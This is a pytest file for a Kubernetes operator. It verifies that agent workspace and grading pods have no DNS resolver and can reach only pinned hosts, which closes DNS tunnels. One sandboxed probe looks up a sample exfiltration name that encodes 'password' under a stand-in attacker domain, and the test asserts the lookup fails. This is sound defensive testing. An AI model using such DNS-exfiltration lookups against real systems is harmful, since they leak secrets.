"""The workspace pod, and the run's eval and report pods, resolve only the names they need
(`manifests.dns`, `dns_pins`): no DNS server (recursive DNS would be a tunnel to any name server in
the world), their store, driver gateway, LLM gateway and judge names pinned in `/etc/hosts`, no
port-53 egress. Only the gateway pod resolves (its provider's public name). The cluster side:
tests/cluster/test_operator_isolation.py."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from a2rl_operator.config import Egress, OperatorConfig
from a2rl_operator.dns_pins import PinError, grading_pins, system_resolver, workspace_pins
from a2rl_operator.grading.config import GradingConfig
from a2rl_operator.manifests import children, parse_spec
from a2rl_operator.manifests.dns import (
    NO_RESOLVER,
    HostPin,
    endpoint_host,
    llm_gateway_service,
    pod_dns,
    url_service,
)
from a2rl_operator.manifests.eval_job import EvalTarget, eval_job
from a2rl_operator.manifests.gateway import gateway_network_policy
from a2rl_operator.manifests.grading_network import endpoint_urls, grading_network_policy
from a2rl_operator.manifests.report_job import report_job
from a2rl_tasks import task_class

from a2rl.constants import ENV_JUDGE_BASE_URL

UID = "3c8e1f20-6b7a-4d59-a1e2-0f9b8c7d6e5a"
STORE_HOST = "minio.a2rl-system.svc.cluster.local"
CONFIG = OperatorConfig(
    store_uri="s3://a2rl-runs/prod",
    store_credentials={
        "AWS_ENDPOINT_URL": f"http://{STORE_HOST}:9000",
        "AWS_ACCESS_KEY_ID": "ak",
        "AWS_SECRET_ACCESS_KEY": "sk",
    },
    store_egress=(Egress("10.20.0.15/32", 9000),),
    apiserver_egress=(Egress("10.96.0.1/32", 443),),
)


def benchrun(**spec: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "task": "arith",
        "baseModel": {"name": "tiny", "source": "builtin:tiny"},
        "agent": {"image": "agent:1", "command": ["agent"]},
        "budget": {"wallTimeSeconds": 600},
        **spec,
    }
    return {"metadata": {"name": "sft", "namespace": "team-a", "uid": UID}, "spec": base}


def stack_run() -> dict[str, Any]:
    driver = {"provider": "anthropic", "model": "claude-sonnet-4-5",
              "secretRef": {"name": "anthropic-key", "key": "api-key"}}  # fmt: skip
    return benchrun(agent={"stack": "claude-code"}, driver=driver)


class FakeKube:
    """The one read `workspace_pins` makes: Services' ClusterIPs."""

    def __init__(self, ips: dict[tuple[str, str], str]) -> None:
        self.ips = ips

    def service_cluster_ip(self, namespace: str, name: str) -> str | None:
        return self.ips.get((namespace, name))


def resolver(table: dict[str, list[str]]) -> Any:
    def resolve(host: str) -> list[str]:
        if host not in table:
            raise PinError(f"cannot resolve the store host {host!r}")
        return table[host]

    return resolve


def pod_of(manifests: list[dict[str, Any]]) -> dict[str, Any]:
    (job,) = [m for m in manifests if m["kind"] == "Job" and m["metadata"]["name"].endswith("-workspace")]
    return dict(job["spec"]["template"]["spec"])


def workspace_policy(manifests: list[dict[str, Any]]) -> dict[str, Any]:
    (pol,) = [
        m for m in manifests if m["kind"] == "NetworkPolicy" and m["metadata"]["name"].endswith("-workspace")
    ]
    return dict(pol["spec"])


def dns_ports(policy_spec: dict[str, Any]) -> list[dict[str, Any]]:
    return [p for rule in policy_spec["egress"] for p in rule.get("ports", []) if p.get("port") == 53]


def test_the_pod_has_no_resolver_and_the_pins_in_its_hosts() -> None:
    gateway = HostPin("10.96.14.7", ("sft-gateway.team-a.svc",))
    fields = pod_dns([HostPin("10.20.0.15", (STORE_HOST,)), gateway,
                      HostPin("10.20.0.15", ("minio.a2rl-system", STORE_HOST))])  # fmt: skip
    assert fields == {
        "dnsPolicy": "None",
        "dnsConfig": {"nameservers": [NO_RESOLVER]},  # no search domains, no cluster resolver
        "hostAliases": [
            {"ip": "10.20.0.15", "hostnames": [STORE_HOST, "minio.a2rl-system"]},
            {"ip": "10.96.14.7", "hostnames": ["sft-gateway.team-a.svc"]},
        ],
    }
    assert NO_RESOLVER == "127.0.0.1"  # the pod's own loopback: no query leaves the pod
    assert "hostAliases" not in pod_dns([])


@pytest.mark.parametrize(
    ("endpoint", "host"),
    [
        ("http://minio.a2rl-system.svc.cluster.local:9000", "minio.a2rl-system.svc.cluster.local"),
        ("https://s3.eu-central-1.amazonaws.com", "s3.eu-central-1.amazonaws.com"),
        ("minio.store:9000", "minio.store"),
        ("http://10.20.0.15:9000", None),
        ("http://[fd00::15]:9000", None),
        ("", None),
    ],
)
def test_the_store_host_is_pinned_only_when_it_is_a_name(endpoint: str, host: str | None) -> None:
    assert endpoint_host(endpoint) == host


def test_an_in_cluster_llm_gateway_is_a_service_an_ip_is_not() -> None:
    assert llm_gateway_service("litellm.gateways:4000") == ("litellm", "gateways")
    assert llm_gateway_service("litellm.gateways.svc.cluster.local") == ("litellm", "gateways")
    assert llm_gateway_service("10.0.0.5:8000") is None and llm_gateway_service(None) is None


def test_every_name_the_pods_containers_are_told_to_use_is_pinned() -> None:
    """The store endpoint the recorder's Secret names and the gateway URL the stack launcher gets
    resolve through the pod's hosts file; the API server is an IP the kubelet sets."""
    run = stack_run()
    spec = parse_spec(run)
    kube = FakeKube({("team-a", "sft-gateway"): "10.96.14.7"})
    pins, notes = workspace_pins(run, spec, CONFIG, kube, resolver({STORE_HOST: ["10.20.0.15"]}))  # type: ignore[arg-type]
    assert notes == []
    manifests = children(run, CONFIG, None, "a2rl-run-token", pins)
    pod = pod_of(manifests)
    hosts = {name: alias["ip"] for alias in pod["hostAliases"] for name in alias["hostnames"]}
    (secret,) = [m for m in manifests if m["kind"] == "Secret" and m["metadata"]["name"] == "sft-store"]
    assert hosts[urlsplit(secret["stringData"]["AWS_ENDPOINT_URL"]).hostname or ""] == "10.20.0.15"
    agent = next(c for c in pod["containers"] if c["name"] == "agent")
    launch = json.loads(agent["command"][-1])
    assert hosts[urlsplit(launch["gateway"]).hostname or ""] == "10.96.14.7"
    assert pod["dnsPolicy"] == "None" and pod["dnsConfig"] == {"nameservers": ["127.0.0.1"]}
    assert dns_ports(workspace_policy(manifests)) == []


def test_only_the_gateway_pod_keeps_dns() -> None:
    for run in (benchrun(), benchrun(llmGateway="litellm.gateways:4000"), stack_run()):
        manifests = children(run, CONFIG, None, "a2rl-run-token")
        egress = workspace_policy(manifests)["egress"]
        assert dns_ports(workspace_policy(manifests)) == []
        assert {
            "to": [{"ipBlock": {"cidr": "10.20.0.15/32"}}],
            "ports": [{"protocol": "TCP", "port": 9000}],
        } in egress
        assert {
            "to": [{"ipBlock": {"cidr": "10.96.0.1/32"}}],
            "ports": [{"protocol": "TCP", "port": 443}],
        } in egress
    # The gateway pod resolves its upstream provider (a public name); the eval and report pods
    # have their names pinned, as the workspace pod has.
    assert dns_ports(gateway_network_policy(stack_run(), parse_spec(stack_run()), CONFIG)["spec"])
    judged = benchrun(
        task="alpacaeval", evaluation={"judge": {"baseUrl": "http://judge.llm:8000/v1", "model": "j"}}
    )
    assert dns_ports(grading_network_policy(judged, ["http://judge.llm:8000/v1"], CONFIG)["spec"]) == []


def test_pins_of_the_store_the_gateway_and_the_llm_gateway() -> None:
    run = benchrun(llmGateway="litellm.gateways:4000")
    kube = FakeKube({("gateways", "litellm"): "10.96.3.3"})
    store = resolver({STORE_HOST: ["10.20.0.15", "10.20.0.16"]})
    pins, notes = workspace_pins(run, parse_spec(run), CONFIG, kube, store)  # type: ignore[arg-type]
    assert pins == [
        HostPin("10.20.0.15", (STORE_HOST,)),
        HostPin("10.20.0.16", (STORE_HOST,)),
        HostPin(
            "10.96.3.3", ("litellm.gateways", "litellm.gateways.svc", "litellm.gateways.svc.cluster.local")
        ),
    ]
    assert notes == []
    # A missing (or headless) LLM gateway Service is not pinned, and said so.
    pins, notes = workspace_pins(run, parse_spec(run), CONFIG, FakeKube({}), store)  # type: ignore[arg-type]
    assert [p.ip for p in pins] == ["10.20.0.15", "10.20.0.16"] and "litellm" in notes[0]
    # An IP endpoint needs no pin; an unresolvable store host or a gateway Service without a
    # ClusterIP stops the Job (the reconcile is retried).
    ip_config = OperatorConfig(
        store_uri="s3://a2rl-runs/prod", store_credentials={"AWS_ENDPOINT_URL": "http://10.20.0.15:9000"}
    )
    assert workspace_pins(benchrun(), parse_spec(benchrun()), ip_config, FakeKube({}), resolver({})) == (
        [],
        [],
    )  # type: ignore[arg-type]
    with pytest.raises(PinError, match="store host"):
        workspace_pins(benchrun(), parse_spec(benchrun()), CONFIG, FakeKube({}), resolver({}))  # type: ignore[arg-type]
    with pytest.raises(PinError, match="sft-gateway"):
        workspace_pins(stack_run(), parse_spec(stack_run()), ip_config, FakeKube({}), resolver({}))  # type: ignore[arg-type]


def _names(service: str, namespace: str) -> tuple[str, ...]:
    return (
        f"{service}.{namespace}",
        f"{service}.{namespace}.svc",
        f"{service}.{namespace}.svc.cluster.local",
    )


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("http://judge.llm:8000/v1", ("judge", "llm", _names("judge", "llm"))),
        ("http://judge:8000/v1", ("judge", "team-a", ("judge", *_names("judge", "team-a")))),
        ("https://search.tools.svc.cluster.local/q", ("search", "tools", _names("search", "tools"))),
        (
            "http://judge.llm.svc.corp.internal/v1",
            ("judge", "llm", ("judge.llm.svc.corp.internal", *_names("judge", "llm"))),
        ),
        ("http://10.0.0.7:8080/v1", None),
        ("https://api.openai.com/v1", None),
        ("not a url", None),
    ],
)
def test_which_service_a_url_names(url: str, expected: tuple[str, str, tuple[str, ...]] | None) -> None:
    found = url_service(url, "team-a")
    assert (found and (found.service, found.namespace, found.hostnames)) == expected


def test_the_eval_and_report_pods_resolve_their_store_and_their_judge_only() -> None:
    """Every name the eval and report pods' containers are told to use (the store endpoint of their
    Secrets, the judge URL of the eval's environment) is pinned; nothing else resolves."""
    judge_url = "http://judge.llm:8000/v1"
    run = benchrun(task="alpacaeval", evaluation={"judge": {"baseUrl": judge_url, "model": "judge-7b"}})
    spec = parse_spec(run)
    grading = GradingConfig(grader_image="grader:1")
    config = OperatorConfig(
        store_uri=CONFIG.store_uri, store_credentials=dict(CONFIG.store_credentials), grading=grading
    )
    urls = endpoint_urls(task_class(spec.task).endpoint_env, grading.run_eval_env(spec))
    assert urls == [judge_url]
    kube = FakeKube({("llm", "judge"): "10.96.8.8"})
    pins, notes = grading_pins(urls, "team-a", config, kube, resolver({STORE_HOST: ["10.20.0.15"]}))  # type: ignore[arg-type]
    assert notes == []
    sub = {
        "metadata": {"name": "sft-00001", "namespace": "team-a", "uid": "s-uid"},
        "kind": "BenchSubmission",
    }
    target = EvalTarget(index=1, store_uri=CONFIG.store_uri, heldout_key="data/alpacaeval/x/heldout")
    pods = [
        eval_job(run, sub, spec, target, grading, pins=pins)["spec"]["template"]["spec"],
        report_job(run, spec, CONFIG.store_uri, grading, pins=pins)["spec"]["template"]["spec"],
    ]
    for pod in pods:
        assert pod["dnsPolicy"] == "None" and pod["dnsConfig"] == {"nameservers": [NO_RESOLVER]}
        hosts = {name: alias["ip"] for alias in pod["hostAliases"] for name in alias["hostnames"]}
        assert hosts[STORE_HOST] == "10.20.0.15"
        assert hosts["judge.llm"] == "10.96.8.8"
    evaluator = pods[0]["containers"][0]
    env = {e["name"]: e.get("value") for e in evaluator["env"]}
    assert urlsplit(env[ENV_JUDGE_BASE_URL]).hostname in hosts
    # A judge Service without a ClusterIP is not pinned (the evaluation fails on its name), and
    # said; an unresolvable store host leaves the pods to the next resync.
    pins, notes = grading_pins(urls, "team-a", config, FakeKube({}), resolver({STORE_HOST: ["10.20.0.15"]}))  # type: ignore[arg-type]
    assert [p.ip for p in pins] == ["10.20.0.15"] and "llm/judge" in notes[0]
    with pytest.raises(PinError, match="store host"):
        grading_pins(urls, "team-a", config, kube, resolver({}))  # type: ignore[arg-type]


def test_the_operators_resolver() -> None:
    assert "127.0.0.1" in system_resolver("localhost")
    with pytest.raises(PinError, match="cannot resolve"):
        system_resolver("exfil.a2rl-test.invalid")  # RFC 6761: never resolves


@pytest.mark.skipif(shutil.which("bwrap") is None, reason="needs bubblewrap")
def test_a_process_with_the_pods_resolver_files_resolves_the_pins_and_nothing_else(tmp_path: Path) -> None:
    """The files the kubelet writes for this pod spec (`/etc/resolv.conf` from `dnsConfig`,
    `/etc/hosts` with the `hostAliases`), given to a process in a network namespace of its own,
    as the pod's: pinned names resolve, any other name fails at once (nothing listens at the
    only name server), whatever resolver options a process tries."""
    fields = pod_dns(
        [HostPin("10.20.0.15", (STORE_HOST,)), HostPin("10.96.14.7", ("sft-gateway.team-a.svc",))]
    )
    resolv = tmp_path / "resolv.conf"
    resolv.write_text("".join(f"nameserver {ns}\n" for ns in fields["dnsConfig"]["nameservers"]))
    hosts = tmp_path / "hosts"
    aliases = "".join(f"{a['ip']}\t{chr(9).join(a['hostnames'])}\n" for a in fields["hostAliases"])
    hosts.write_text("# Kubernetes-managed hosts file.\n127.0.0.1\tlocalhost\n10.244.1.7\tsft-workspace-x7k2p"
                     f"\n\n# Entries added by HostAliases.\n{aliases}")  # fmt: skip
    probe = (
        "import socket, sys, time\n"
        "out = {}\n"
        "for name in sys.argv[1:]:\n"
        "    t = time.monotonic()\n"
        "    try: out[name] = sorted({i[4][0] for i in socket.getaddrinfo(name, 443)})\n"
        "    except OSError as e: out[name] = 'fail'\n"
        "    out[name + ':s'] = time.monotonic() - t\n"
        "import json; print(json.dumps(out))\n"
    )
    names = [STORE_HOST, "sft-gateway.team-a.svc", "huggingface.co", "kube-dns.kube-system.svc.cluster.local",
             "cGFzc3dvcmQ.exfil.attacker.example"]  # fmt: skip
    argv = ["bwrap", "--dev-bind", "/", "/", "--unshare-net", "--ro-bind", str(resolv), "/etc/resolv.conf",
            "--ro-bind", str(hosts), "/etc/hosts", sys.executable, "-c", probe, *names]  # fmt: skip
    started = time.monotonic()
    proc = subprocess.run(argv, capture_output=True, text=True, timeout=60, check=False)
    if proc.returncode != 0 and "No permissions" in proc.stderr:
        pytest.skip(f"bubblewrap cannot make a network namespace here: {proc.stderr.strip()}")
    assert proc.returncode == 0, proc.stderr
    out = json.loads(proc.stdout)
    assert out[STORE_HOST] == ["10.20.0.15"] and out["sft-gateway.team-a.svc"] == ["10.96.14.7"]
    for name in names[2:]:
        assert out[name] == "fail" and out[name + ":s"] < 1.0, out
    assert time.monotonic() - started < 30
